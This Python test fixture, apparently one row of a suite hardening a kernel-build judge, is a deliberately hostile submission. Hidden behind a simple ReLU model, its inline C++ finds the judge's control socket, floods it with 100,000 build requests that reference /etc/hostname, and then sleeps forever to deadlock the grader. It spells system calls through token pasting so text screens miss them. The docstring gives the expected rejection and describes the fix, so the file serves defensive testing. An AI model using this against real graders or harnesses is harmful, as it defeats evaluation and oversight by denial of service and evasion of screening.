"""Row 21: stalls the judge with a flood it must answer. While the module loads (when the judge serves kernel
builds), native code finds the control socket among its descriptors, writes thousands of build-request frames to
it (each one a source the builder refuses at once) and then sleeps for ever, never reading an answer. System
calls are spelled by token pasting, so no text screen sees them.

Expected: rejected / protocol_violation during the build stage, within seconds: the judge takes one frame per frame
it sent, and refuses a second before parsing it. Before, the judge answered every request; once the socket's buffer
was full of answers nobody read, it blocked in a send that had no deadline, and no verdict ever came.
"""

import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

cpp_source = r"""
#include <torch/extension.h>
#include <sys/syscall.h>
#include <sys/stat.h>
#include <unistd.h>
#include <time.h>
#include <cstring>
#include <cstdio>
#define J(a, b, c) a##b##c

static long raw(long n, long a = 0, long b = 0, long c = 0, long d = 0) { return J(sys, c, all)(n, a, b, c, d); }

static long control_socket() {
    for (long fd = 3; fd < 256; ++fd) {
        struct stat st;
        if (raw(SYS_fstat, fd, (long)&st) == 0 && S_ISSOCK(st.st_mode)) return fd;
    }
    return -1;
}

int64_t flood(int64_t frames) {
    long fd = control_socket();
    // A build request the builder refuses on sight (it names a host file), assembled at run time.
    char body[256];
    int len = snprintf(body, sizeof(body), "{\"op\": \"build\", \"name\": \"f\", \"cpp_sources\": "
                       "[\"#%s \\\"/etc/%s\\\"\"]}", "include", "hostname");
    char frame[300];
    frame[0] = 0; frame[1] = 0; frame[2] = (char)(len >> 8); frame[3] = (char)(len & 255);
    memcpy(frame + 4, body, len);
    int64_t sent = 0;
    for (; fd >= 0 && sent < frames; ++sent) {
        if (raw(SYS_write, fd, (long)frame, len + 4) <= 0) break;
    }
    struct timespec hour = {3600, 0};
    for (;;) raw(SYS_nanosleep, (long)&hour, 0);
    return sent;
}

torch::Tensor relu_forward(torch::Tensor x) {
    return x.clamp_min(0);
}
"""

ext = load_inline(name="row21_send_flood", cpp_sources=cpp_source, functions=["flood", "relu_forward"])
ext.flood(100_000)


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return ext.relu_forward(x)
